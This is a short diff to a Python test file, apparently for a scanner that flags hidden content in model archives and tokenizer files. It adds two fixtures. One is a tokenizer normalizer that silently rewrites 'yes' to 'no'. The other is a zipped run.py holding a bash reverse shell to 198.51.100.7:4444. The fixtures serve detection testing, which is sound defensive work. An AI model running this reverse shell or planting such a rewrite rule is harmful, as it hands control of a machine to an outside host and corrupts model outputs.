@@ -405,8 +405,13 @@ def _nested() -> list[Hidden]:
 def _rest() -> list[Hidden]:
     words = {f"{n:05d}" + "x" * 4_000: n for n in range(2_200)}
     tokenizer = {"model": {"type": "BPE", "vocab": words, "merges": []}, "added_tokens": []}
+    rule = {"type": "Replace", "pattern": {"String": "yes"}, "content": "no"}
+    small = {"model": {"type": "WordLevel", "vocab": {"a": 0}, "unk_token": "a"}, "normalizer": rule}
+    shell = b"import os\ndef run():\n    os.system('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1')\n"
     far = {"model": {"type": "BPE", "vocab": {"a": 0, "b": 9_000_000}, "merges": []}, "added_tokens": []}
     return [
+        Hidden("rule-in-an-archive", {"m.zip": zipped({"tokenizer.json": _json(small)})}, "tokenizer.rewrites", FAIL),
+        Hidden("shell-in-an-archive", {"m.zip": zipped({"run.py": shell})}, "code.attack-shape", REVIEW),
         Hidden("long-vocabulary", {"tokenizer.json": _json(tokenizer)}, "token.reassembled", OPEN),
         Hidden("sparse-vocabulary", {"tokenizer.json": _json(far)}, "token.reassembled", OPEN),
         Hidden(
